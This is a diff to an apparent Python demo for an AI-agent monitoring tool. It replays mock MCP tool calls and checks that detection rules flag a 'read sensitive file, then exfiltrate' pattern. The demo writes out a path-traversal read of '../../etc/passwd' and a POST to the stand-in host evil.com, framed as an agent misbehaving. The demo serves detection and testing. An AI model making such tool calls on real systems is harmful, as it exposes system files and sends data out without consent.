@@ -14,10 +14,13 @@ from __future__ import annotations
 import asyncio
 import sys
 import os
+from operator import itemgetter
 
-sys.path.insert(0, os.path.dirname(__file__))
+_HERE = os.path.dirname(os.path.abspath(__file__))
+if _HERE not in sys.path:
+    sys.path.insert(0, _HERE)
 
-from _output import banner, scenario, step, results, explainer
+from _output import banner, scenario, step, results, explainer, detected
 
 from aktov.integrations.mcp import wrap
 
@@ -25,11 +28,44 @@ from aktov.integrations.mcp import wrap
 class MockMCPClient:
     """A mock MCP client that simulates call_tool responses."""
 
+    __slots__ = ()
+
     async def call_tool(self, name: str, arguments: dict | None = None) -> dict:
         return {"content": [{"type": "text", "text": f"Result of {name}"}]}
 
 
-async def _run() -> dict:
+_CLIENT = MockMCPClient()
+
+
+EXPECTED: tuple[str, ...] = ("AK-032", "AK-010")
+
+
+# Trace response from the last _trace(); see run_async().
+_CACHED: object | None = None
+
+
+async def _trace() -> object:
+    """Replay the mock tool calls through the Aktov MCP wrapper."""
+    traced = wrap(_CLIENT, aktov_agent_name="code-assistant")
+
+    # ── Tool call 1: read file with path traversal ──
+    await traced.call_tool("read_file", {"path": "../../etc/passwd"})
+
+    # ── Tool call 2: send data to external URL ──
+    await traced.call_tool("http_request", {"url": "https://evil.com/data", "method": "POST"})
+
+    return traced.end_trace()
+
+
+async def run_async() -> dict:
+    """Run the demo and return {rule_ids, response}.
+
+    The mock inputs are fixed, so the trace response is cached for the life
+    of the process and shared by every caller; the narration is printed on
+    every call. Set AKTOV_DEMO_NOCACHE to record a fresh trace each time.
+    """
+    global _CACHED
+
     banner(
         "MCP — Path Traversal + Exfiltration Detection",
         "Detects directory traversal and read-then-exfil pattern",
@@ -40,20 +76,13 @@ async def _run() -> dict:
         "then sends data to an external URL."
     )
 
-    # ── Set up Aktov MCP wrapper ──
-    client = MockMCPClient()
-    traced = wrap(client, aktov_agent_name="code-assistant")
-
-    # ── Tool call 1: read file with path traversal ──
     step("read_file", 'path="../../etc/passwd"')
-    await traced.call_tool("read_file", {"path": "../../etc/passwd"})
-
-    # ── Tool call 2: send data to external URL ──
     step("http_request", 'url="https://evil.com/data", method="POST"')
-    await traced.call_tool("http_request", {"url": "https://evil.com/data", "method": "POST"})
 
-    # ── End trace and show results ──
-    response = traced.end_trace()
+    # ── Record the trace (cached) and show results ──
+    if _CACHED is None or os.environ.get("AKTOV_DEMO_NOCACHE"):
+        _CACHED = await _trace()
+    response = _CACHED
     results(response)
 
     explainer(
@@ -62,21 +91,21 @@ async def _run() -> dict:
         "Together, these catch a classic 'read sensitive file, then exfiltrate' attack."
     )
 
-    rule_ids = [a["rule_id"] for a in response.alerts]
+    rule_ids = list(map(itemgetter("rule_id"), response.alerts))
     return {"rule_ids": rule_ids, "response": response}
 
 
 def run() -> dict:
     """Synchronous entry point."""
-    return asyncio.run(_run())
+    return asyncio.run(run_async())
 
 
 if __name__ == "__main__":
     result = run()
     rule_ids = result["rule_ids"]
-    ok = "AK-032" in rule_ids and "AK-010" in rule_ids
-    if ok:
-        print("  Demo passed: AK-032 + AK-010 detected.")
+    expected = " + ".join(EXPECTED)
+    if detected(EXPECTED, rule_ids):
+        print(f"  Demo passed: {expected} detected.")
     else:
-        print(f"  Demo FAILED: expected AK-032 + AK-010, got {rule_ids}", file=sys.stderr)
+        print(f"  Demo FAILED: expected {expected}, got {rule_ids}", file=sys.stderr)
         sys.exit(1)